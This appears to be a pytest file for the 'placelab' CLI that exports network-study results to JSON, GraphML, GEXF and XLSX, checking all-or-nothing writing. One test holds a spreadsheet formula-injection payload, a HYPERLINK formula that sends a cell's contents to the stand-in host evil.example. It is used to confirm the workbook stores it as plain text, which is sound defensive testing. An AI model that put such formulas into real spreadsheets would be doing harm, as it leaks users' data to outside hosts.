"""``placelab analyze ... --graphml F --gexf F --xlsx F``: every file or none."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import igraph as ig
import networkx as nx
import openpyxl
from exported import mismatches, tie_counts
from test_cli import FAST, _run


def _paths(tmp_path: Path) -> dict[str, Path]:
    folder = tmp_path / "out"
    folder.mkdir(exist_ok=True)
    names = {"json": "result.json", "graphml": "study.graphml", "gexf": "study.gexf"}
    return {flag: folder / name for flag, name in (names | {"xlsx": "study.xlsx"}).items()}


def _flags(paths: dict[str, Path]) -> list[object]:
    return [part for flag, path in paths.items() for part in (f"--{flag}", path)]


def test_it_writes_graphml_gexf_and_xlsx_of_the_same_result(small_study, tmp_path):
    paths = _paths(tmp_path)

    assert _run(*small_study, *_flags(paths), *FAST) == 0

    result = json.loads(paths["json"].read_text(encoding="utf-8"))
    graphml = nx.read_graphml(paths["graphml"])
    assert mismatches(result, dict(graphml.nodes(data=True))) == []
    gexf = nx.read_gexf(paths["gexf"])
    assert gexf.number_of_nodes() == graphml.number_of_nodes() == len(result["people"])
    assert gexf.number_of_edges() == sum(tie_counts(result).values())
    by_igraph = ig.Graph.Read_GraphML(str(paths["graphml"]))
    assert by_igraph.ecount() == graphml.number_of_edges() == gexf.number_of_edges()
    book = openpyxl.load_workbook(paths["xlsx"], read_only=True)
    assert len(list(book["People"].iter_rows(min_row=2))) == len(result["people"])


def test_a_bad_file_writes_none_of_the_outputs(small_study, tmp_path, capsys):
    people, ties = small_study
    ties.write_text(ties.read_text(encoding="utf-8") + "p01,p02,inovation,\n", encoding="utf-8")
    paths = _paths(tmp_path)

    assert _run(people, ties, *_flags(paths), *FAST) == 2

    assert "inovation" in capsys.readouterr().err
    assert list(paths["json"].parent.iterdir()) == []


def test_an_xlsx_that_cannot_be_written_leaves_no_other_file(small_study, tmp_path, capsys):
    paths = _paths(tmp_path)
    blocked = paths["xlsx"].with_name("study.xlsx.partial")
    blocked.mkdir()  # the side file cannot be written: the workbook fails after the others

    code = _run(*small_study, *_flags(paths), *FAST)

    assert code == 1
    assert str(paths["xlsx"]) in capsys.readouterr().err
    assert sorted(p.name for p in paths["json"].parent.iterdir()) == ["study.xlsx.partial"]


def test_two_outputs_on_one_file_are_refused_before_the_analysis(small_study, tmp_path, capsys):
    paths = _paths(tmp_path)

    code = _run(*small_study, "--graphml", paths["graphml"], "--gexf", paths["graphml"], *FAST)

    assert code == 1
    assert "a file of its own" in capsys.readouterr().err
    assert list(paths["json"].parent.iterdir()) == []


def test_a_name_a_spreadsheet_would_run_is_a_text_cell_in_the_workbook(tmp_path):
    from placelab.core.io.tables import csv_cell
    from placelab.core.io.workbook import xlsx_bytes
    from placelab.core.study import load

    attack = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
    people = tmp_path / "people.csv"
    with people.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([
            ["id", "name", "organisation", "sector", "layer", "seniority", "responded"],
            ["p1", csv_cell(attack), "Council", "local_authority", "systemic", "senior", "yes"],
            ["p2", "Bo", "Council", "local_authority", "frontline", "frontline", "yes"],
        ])  # fmt: skip
    ties = tmp_path / "ties.csv"
    ties.write_text("source,target,network,weight\np1,p2,work,1\np2,p1,work,1\n", encoding="utf-8")
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(load(people, ties).to_dict())))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    named = [c for c in cells if c.value == attack]
    assert named and all(c.data_type == "s" for c in named)
    assert not [c for c in cells if c.data_type == "f"]
